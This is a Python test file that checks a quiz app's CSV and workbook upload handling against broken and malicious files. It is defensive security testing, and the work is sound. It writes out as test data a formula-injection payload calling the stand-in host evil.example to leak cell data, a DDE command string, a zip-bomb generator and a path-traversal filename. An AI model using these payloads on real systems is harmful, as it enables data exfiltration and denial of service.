"""Files that people upload by mistake or in malice: one plain sentence each, and nothing half-saved."""

from __future__ import annotations

import csv
import io
import zipfile
from typing import Any

import openpyxl
import pytest
from openpyxl.cell import WriteOnlyCell
from werkzeug.test import TestResponse

from quizapp.accounts.models import Member
from quizapp.bank.models import Bank, ItemVersion
from quizapp.extensions import db
from tests.app.accounts.test_import import CSV
from tests.app.bad_input.conftest import ITEMS_FILE, World
from tests.fixtures.app import Client

pytestmark = pytest.mark.pages  # the same statements as elsewhere: files and words are what is tested

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
MEMBERS_HEAD, ITEMS_HEAD = "姓名,账号,手机号\n", "题型,题干,选项A,选项B,答案\n"


def workbook(*rows: list[Any], formulas: bool = True) -> bytes:
    """A workbook of these rows; without `formulas` what looks like one is stored as text."""
    book = openpyxl.Workbook(write_only=True)
    sheet = book.create_sheet()
    for row in rows:
        cells = [WriteOnlyCell(sheet, value=value) for value in row]
        for cell in cells if not formulas else ():
            cell.data_type = "s"
        sheet.append(cells)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def bomb(name: str) -> bytes:
    """A small archive that unpacks to 300 MB."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/workbook.xml", "<workbook/>")
        with archive.open(name, "w", force_zip64=True) as entry:
            for _ in range(30):
                entry.write(b" " * 10_000_000)
    return out.getvalue()


BOMB = bomb("xl/worksheets/sheet1.xml")
BOOK = workbook(["姓名", "题干"], ["甲", "乙"])
FILES = {
    "empty": b"",
    "blank": b" \n\n ",
    "binary": bytes(range(256)) * 40,
    "picture": b"\x89PNG\r\n\x1a\n" + bytes(200),
    "old office": b"\xd0\xcf\x11\xe0" + bytes(600),
    "truncated workbook": BOOK[:-200],
    "half a workbook": BOOK[: len(BOOK) // 2],
    "zip of something else": b"PK\x03\x04" + bytes(60),
    "bomb": BOMB,
    "broken utf-16": b"\xff\xfe\x00",
    "no encoding at all": b"\xff" * 64,
}


def upload(client: Client, path: str, content: bytes, filename: str = "文件", **more: str) -> TestResponse:
    return client.post(path, data={"file": (io.BytesIO(content), filename), **more})


def to_members(client: Client, content: bytes, name: str = "名单.csv") -> TestResponse:
    return upload(client, "/members/import", content, name)


def to_bank(client: Client, content: bytes, filename: str = "题目.csv", name: str = "新题库") -> TestResponse:
    return upload(client, "/bank/import", content, filename, bank="new", name=name)


def refused(answer: TestResponse) -> str:
    """Hold that an answer is a refusal in words; return its page."""
    assert 400 <= answer.status_code < 500, answer.status_code
    assert "Traceback" not in answer.text
    return answer.text


@pytest.mark.parametrize("name", ["文件.csv", "文件.xlsx", "../../etc/passwd", "a" * 400 + ".yaml"])
def test_no_broken_file_leaves_anything(world: World, name: str) -> None:
    before = world.counts()
    for content in FILES.values():
        refused(to_members(world.client, content, name))
        refused(to_bank(world.client, content, name))
    assert world.counts() == before


@pytest.mark.parametrize(
    ("text", "why"),
    [
        ("姓名,姓名\n甲,乙\n", "两列"),
        ("账号,手机号\nlin,13800000001\n", "找不到“姓名”"),
        (MEMBERS_HEAD + "甲" * 501 + ",,\n", "500"),
        (MEMBERS_HEAD + "甲,,\n" * 5_001, "5,000"),
    ],
)
def test_a_faulty_list_is_refused_as_a_whole(world: World, text: str, why: str) -> None:
    before = world.counts()
    assert why in refused(to_members(world.client, text.encode()))
    assert world.counts() == before


@pytest.mark.parametrize(
    "row",
    ["甲,,电话", "甲" * 65 + ",,", "甲,a,", "甲," + "u" * 40 + ",", "甲,,1" + "3" * 40, "甲,,-1", ",lin,"],
)
def test_a_faulty_row_holds_the_list_back(world: World, row: str) -> None:
    before = world.counts()
    staged = to_members(world.client, f"{MEMBERS_HEAD}乙,good,\n{row}\n".encode())
    assert "第 3 行" in world.client.get(staged.location).text
    refused(world.client.post(staged.location))
    assert world.counts() == before  # the list that was staged takes the place of the person's last one


@pytest.mark.parametrize("encoding", ["utf-8-sig", "utf-16", "gbk", "gb18030"])
def test_files_of_chinese_offices_are_read(world: World, encoding: str) -> None:
    staged = to_members(world.client, CSV.encode(encoding))
    assert "林知远" in world.client.get(staged.location).text
    staged = to_bank(world.client, ITEMS_FILE.encode(encoding))
    assert "一个问题？" in world.client.get(staged.location).text


@pytest.mark.parametrize("nul", ["甲\0乙", "\0"])
def test_zero_bytes_in_a_table_are_refused(world: World, nul: str) -> None:
    before = world.counts()
    refused(to_members(world.client, f"{MEMBERS_HEAD}{nul},lin,\n".encode()))
    staged = to_bank(world.client, f"{ITEMS_HEAD}单选题,{nul}？,甲,乙,A\n".encode())
    assert staged.status_code == 422
    assert world.counts() == before


@pytest.mark.parametrize(
    "text",
    [
        "选项A,选项B\n甲,乙\n",
        ITEMS_HEAD + "单选题," + "长" * 40_000 + "？,甲,乙,A\n",
        ITEMS_HEAD + "单选题,问？,甲,乙,Z\n",
        ITEMS_HEAD + "猜谜题,问？,甲,乙,A\n",
        "题型,题干,答案,误差\n数值题,多少？,NaN,0\n",
        "题型,题干,答案,误差\n数值题,多少？,1e999,0\n",
        "题型,题干,答案,误差\n数值题,多少？,5,-1\n",
        "题型,题干,选项A,选项B,答案,难度\n单选题,问？,甲,乙,A,99999999999999999999\n",
    ],
)
def test_faulty_questions_are_not_saved(world: World, text: str) -> None:
    items, banks = db.session.query(ItemVersion).count(), db.session.query(Bank).count()
    staged = to_bank(world.client, text.encode())
    if staged.status_code == 302:
        assert "第" in world.client.get(staged.location).text
        refused(world.client.post(staged.location, data={"partial": "0"}))
    else:
        refused(staged)
    db.session.rollback()
    assert (db.session.query(ItemVersion).count(), db.session.query(Bank).count()) == (items, banks)


def test_of_two_columns_alike_the_first_is_read_and_that_is_said(world: World) -> None:
    staged = to_bank(world.client, "题型,题干,题干,答案\n判断题,问？,另问？,对\n".encode())
    page = world.client.get(staged.location).text
    assert "两列都是“题干”" in page
    assert "另问？" not in page


@pytest.mark.parametrize("path", ["/members/import", "/bank/import", "/site/logo"])
def test_fifty_megabytes_are_not_even_read(world: World, path: str) -> None:
    before = world.counts()
    body = b'--x\r\nContent-Disposition: form-data; name="file"; filename="a"\r\n\r\n'
    length = 50 * 1024 * 1024
    answer = world.client.post(
        path,
        input_stream=io.BytesIO(body + bytes(length - len(body))),
        content_length=length,
        content_type="multipart/form-data; boundary=x",
    )
    assert answer.status_code == 413
    assert "太大" in answer.text
    assert world.counts() == before


def test_formulas_are_refused_in_a_workbook_of_members(world: World) -> None:
    before = world.counts()
    assert "公式" in refused(
        to_members(world.client, workbook(["姓名", "职务"], ["甲", FORMULA]), "名单.xlsx")
    )
    assert world.counts() == before


@pytest.mark.parametrize("start", ["=", "＝", "+", "-", "@"])
def test_a_formula_for_a_name_is_no_name(world: World, start: str) -> None:
    before = world.counts()
    staged = to_members(world.client, f'{MEMBERS_HEAD}"{start}HYPERLINK(A1)",evil,\n'.encode())
    assert "公式" in world.client.get(staged.location).text
    refused(world.client.post(staged.location))
    assert world.counts() == before


def test_a_formula_that_is_a_name_stays_text_in_every_list(world: World) -> None:
    name = "=HYPERLINK(A1)"
    member = db.session.get(Member, world.values["member_id"])
    assert member is not None
    member.name = name
    db.session.commit()
    contest = world.values["contest_id"]
    book = openpyxl.load_workbook(io.BytesIO(world.client.get(f"/contests/{contest}/absentees.xlsx").data))
    cells = [cell for row in book.worksheets[0] for cell in row if cell.value == name]
    assert cells
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in cells)


@pytest.mark.parametrize("kind", ["xlsx", "csv"])
def test_a_formula_in_a_question_comes_back_as_text(world: World, kind: str) -> None:
    text = f'{ITEMS_HEAD}单选题,"@SUM(1+1)*cmd|calc!A0 是什么？","=1+1","+2",A\n'
    staged = to_bank(world.client, text.encode())
    assert world.client.post(staged.location, data={"partial": "0"}).status_code == 302
    bank = db.session.query(Bank).order_by(Bank.id.desc()).first()
    assert bank is not None
    exported = world.client.get(f"/bank/banks/{bank.id}/export/{kind}").data
    texts = cells_of(exported) if kind == "xlsx" else [cell for row in rows_of(exported) for cell in row]
    assert any("是什么" in cell for cell in texts)
    assert not [cell for cell in texts if cell.startswith(("=", "@"))]
    again = to_bank(world.client, exported, f"题目.{kind}", "又一个题库")
    assert "@SUM(1+1)" in world.client.get(again.location).text


def cells_of(content: bytes) -> list[str]:
    sheet = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
    cells = [cell for row in sheet for cell in row if cell.value is not None]
    assert all(cell.data_type == "s" for cell in cells)
    return [str(cell.value) for cell in cells]


def rows_of(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def test_a_list_is_confirmed_once(world: World) -> None:
    for staged, again in (
        (to_members(world.client, CSV.encode()), 404),
        (to_bank(world.client, ITEMS_FILE.encode()), 302),  # what was brought in can still be looked at
    ):
        assert world.client.post(staged.location, data={"partial": "0"}).status_code == 302
        after = world.counts()
        for ask in (world.client.post, world.client.get):
            answer = ask(staged.location)
            assert answer.status_code == again
            assert again == 404 or answer.location.partition("?")[0] == "/bank/"
        assert world.counts() == after
